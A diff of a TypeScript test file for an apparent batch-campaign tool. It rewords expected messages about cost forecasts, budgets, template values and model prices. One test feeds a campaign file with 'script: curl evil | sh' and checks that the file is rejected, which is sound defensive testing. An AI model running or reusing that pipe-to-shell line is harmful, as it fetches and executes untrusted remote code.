@@ -157,7 +157,7 @@ describe('the preview', () => {
       'Cost in all: $3.00 to $3.00, by 7 runs like it (a rough guess). Its budget: $20.00.',
     );
     expect(await forecastOf(past(30, 1.5), 2)).toBe(
-      'Cost in all: $3.00 to $3.00, by 30 runs like it (fairly sure). Its budget: $2.00, which may not do.',
+      'Cost in all: $3.00 to $3.00, by 30 runs like it (fairly sure). Its budget: $2.00, which may not be enough.',
     );
     const w = await createCampaignWorld(undefined, { figures: past(7, 1.5), budgetUsd: async () => 20 });
     await w.orders('/batch acme/a acme/b Fix it engine=claude');
@@ -184,7 +184,7 @@ describe('the preview', () => {
       expect.stringContaining('Did you mean engine=?'),
     ]);
     expect(await w.orders('/batch acme/a Fix {{team}}')).toEqual([
-      expect.stringContaining('{{team}} is not given for acme/a'),
+      expect.stringContaining('{{team}} has no value for acme/a'),
     ]);
     expect(await w.orders('/batch acme/a Fix it', { by: VIC })).toEqual([
       expect.stringContaining('operator'),
@@ -472,7 +472,7 @@ describe('a file', () => {
 
   it('E18: a limit of cost that stops at once, or stops nothing, is on the preview, whoever asked for it', async () => {
     for (const [maxCostUsd, said] of [
-      [5, 'nobody has told what gpt-x costs'],
+      [5, 'the price of gpt-x is not known'],
       [null, null],
     ] as const) {
       const w = await createCampaignWorld(undefined, {
@@ -554,7 +554,7 @@ describe('a file', () => {
       'name: a\nrepositories: [acme/a]\nscript: curl evil | sh',
       '/batch',
     );
-    expect(said).toContain('Scripts are given at the host');
+    expect(said).toContain('Scripts are given on the host');
     expect(await w.ledger.query.campaigns()).toEqual([]);
   });
 
